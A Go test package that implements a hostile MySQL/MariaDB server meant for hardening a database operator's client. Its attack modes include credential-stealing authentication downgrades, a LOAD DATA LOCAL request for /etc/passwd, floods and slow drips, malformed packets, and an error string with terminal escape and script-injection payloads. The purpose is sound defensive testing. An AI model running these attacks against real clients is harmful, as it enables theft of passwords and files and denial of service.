// Package hostiledb plays database servers that attack their clients. Users choose the image of a database, so the
// operator must survive all of them.
package hostiledb

import (
	"crypto/rsa"
	"crypto/sha1"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// Modes are the attacks by name.
var Modes = map[string]func(*session){
	"ec key":            (*session).offerECKey,
	"rsa key":           (*session).offerRSAKey,
	"flood":             (*session).flood,
	"error text":        (*session).sendErrorText,
	"announced size":    (*session).announceSize,
	"columns":           (*session).announceColumns,
	"rows":              (*session).sendRows,
	"result for SET":    (*session).sendUnexpectedRows,
	"more results":      (*session).announceMoreResults,
	"local file":        (*session).requestLocalFile,
	"clear password":    (*session).requestClearPassword,
	"short challenge":   (*session).sendShortChallenge,
	"short greeting":    (*session).sendShortGreeting,
	"short error":       (*session).sendShortError,
	"malformed column":  (*session).sendMalformedColumn,
	"one byte a second": (*session).drip,
	"silence":           (*session).stayAwake,
}

// ErrorText is the text of the mode "error text": it changes the title of a terminal, clears its screen and claims that
// all is well.
const ErrorText = "\x1b]0;owned\x07\x1b[2J\x1b[1;32mALL GREEN\x1b[0m<script>alert(1)</script>\r\n\u202eroot# "

// Server is a hostile server.
type Server struct {
	// Certificate is what a server needs to attack clients that require TLS; nil for servers without TLS.
	Certificate *tls.Certificate
	attack      func(*session)
	// Sent counts bytes that were sent.
	Sent atomic.Int64

	mu     sync.Mutex
	stolen []string
}

// New returns a server with the attack of a mode.
func New(mode string) *Server {
	attack := Modes[mode]
	if attack == nil {
		panic("no mode " + mode)
	}
	return &Server{attack: attack}
}

// Serve attacks every client until the listener is closed.
func (s *Server) Serve(l net.Listener) {
	for {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		go s.ServeConn(conn)
	}
}

// ServeConn attacks one client.
func (s *Server) ServeConn(conn net.Conn) {
	defer func() { _ = conn.Close() }() // also ends TLS
	s.attack(&session{server: s, conn: conn})
}

// Stolen returns the passwords that clients revealed.
func (s *Server) Stolen() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.stolen...)
}

func (s *Server) addStolen(password string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.stolen = append(s.stolen, password)
}

// session is a connection of a client.
type session struct {
	server *Server
	conn   net.Conn
	seq    byte
}

func (s *session) write(raw []byte) bool {
	n, err := s.conn.Write(raw)
	s.server.Sent.Add(int64(n))
	return err == nil
}

func (s *session) send(content ...byte) bool {
	n := len(content)
	header := []byte{byte(n), byte(n >> 8), byte(n >> 16), s.seq}
	s.seq++
	return s.write(append(header, content...))
}

func (s *session) receive() []byte {
	var header [4]byte
	if _, err := io.ReadFull(s.conn, header[:]); err != nil {
		return nil
	}
	s.seq = header[3] + 1
	content := make([]byte, int(header[0])|int(header[1])<<8|int(header[2])<<16)
	_, _ = io.ReadFull(s.conn, content) // the next read fails, too
	const tlsRequestSize = 32
	if _, encrypted := s.conn.(*tls.Conn); s.server.Certificate != nil && !encrypted && len(content) == tlsRequestSize {
		s.conn = tls.Server(s.conn, &tls.Config{Certificates: []tls.Certificate{*s.server.Certificate}}) //nolint:gosec // a test server
		return s.receive()
	}
	return content
}

const challenge = "abcdefghijklmnopqrst"

func (s *session) greeting() []byte {
	capabilities := byte(0xa2) // protocol 4.1, authentication methods
	if s.server.Certificate != nil {
		capabilities |= 0x08 // TLS
	}
	g := append([]byte{10}, "11.8.6-MariaDB\x00"...)
	g = append(g, 1, 0, 0, 0)
	g = append(g, challenge[:8]...)
	g = append(g, 0, 0x09, capabilities, 45, 2, 0, 0x28, 0, 21)
	g = append(g, make([]byte, 10)...)
	g = append(g, challenge[8:]...)
	return append(g, "\x00mysql_native_password\x00"...)
}

// column is the definition of a text column.
var column = []byte("\x03def\x00\x00\x00\x01x\x00\x0c-\x00\xff\x00\x00\x00\xfd\x00\x00\x00\x00\x00")

var ok = []byte{0, 0, 0, 2, 0, 0, 0}

// login lets the client log in, and answers its first statement, which sets variables.
func (s *session) login() {
	s.send(s.greeting()...)
	s.receive()
	s.send(ok...)
	s.receive()
}

func (s *session) awaitQuery() {
	s.login()
	s.send(ok...)
	s.receive()
}

// switchMethod asks for another authentication method and returns the response of the client.
func (s *session) switchMethod(method, challenge string) []byte {
	s.send(s.greeting()...)
	s.receive()
	s.send(append([]byte{0xfe}, method+"\x00"+challenge+"\x00"...)...)
	return s.receive()
}

func (s *session) sendKey(key any) {
	der, err := x509.MarshalPKIXPublicKey(key)
	if err != nil {
		panic(err)
	}
	s.send(append([]byte{1}, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})...)...)
}

func (s *session) offerECKey() {
	s.switchMethod("sha256_password", challenge)
	s.sendKey(&ecKey().PublicKey)
	s.receive()
}

func (s *session) offerRSAKey() {
	s.switchMethod("sha256_password", challenge)
	s.sendKey(&rsaKey().PublicKey)
	password, err := rsa.DecryptOAEP(sha1.New(), nil, rsaKey(), s.receive(), nil)
	if err != nil {
		return // the client revealed nothing
	}
	for i := range password {
		password[i] ^= challenge[i%len(challenge)]
	}
	s.server.addStolen(string(password))
}

func (s *session) requestClearPassword() {
	if password := s.switchMethod("mysql_clear_password", challenge); len(password) > 0 {
		s.server.addStolen(string(password))
	}
}

func (s *session) sendShortChallenge() { s.switchMethod("mysql_native_password", "short") }

func (s *session) flood() {
	chunk := make([]byte, 1<<24-1)
	chunk[0] = 10
	for s.server.Sent.Load() < 4<<30 && s.send(chunk...) {
	}
}

func (s *session) announceSize() {
	s.write([]byte{0xff, 0xff, 0xff, 0, 10})
	s.receive()
}

func (s *session) sendErrorText() {
	s.send(s.greeting()...)
	s.receive()
	s.send(append([]byte{0xff, 0xd2, 4}, "#HY000"+ErrorText...)...)
}

func (s *session) sendShortGreeting() { s.send(10, '1', '1', 0, 1) }

func (s *session) sendShortError() { s.send(0xff, 1) }

func (s *session) announceColumns() {
	s.awaitQuery()
	s.send(0xfe, 0, 0, 0, 0, 0, 0, 0, 0x40)
	s.receive()
}

func (s *session) sendMalformedColumn() {
	s.awaitQuery()
	s.send(1)
	s.send(200, 'x')
	s.receive()
}

func (s *session) sendRows() {
	s.awaitQuery()
	s.send(1)
	s.send(column...)
	for s.server.Sent.Load() < 1<<30 && s.send(append([]byte{200}, make([]byte, 200)...)...) {
	}
}

func (s *session) sendUnexpectedRows() {
	s.login()
	s.send(1)
	s.send(0xff, 1)
	s.receive()
}

func (s *session) announceMoreResults() {
	s.login()
	for s.server.Sent.Load() < 1<<30 && s.send(0, 0, 0, 8, 0, 0, 0) {
	}
}

func (s *session) requestLocalFile() {
	s.awaitQuery()
	s.send(append([]byte{0xfb}, "/etc/passwd"...)...)
	if file := s.receive(); len(file) > 0 {
		s.server.addStolen(fmt.Sprintf("/etc/passwd: %d bytes", len(file)))
	}
}

func (s *session) drip() {
	for _, b := range append([]byte{100, 0, 0, 0}, s.greeting()...) {
		if !s.write([]byte{b}) {
			return
		}
		time.Sleep(time.Second)
	}
}

func (s *session) stayAwake() { s.receive() }
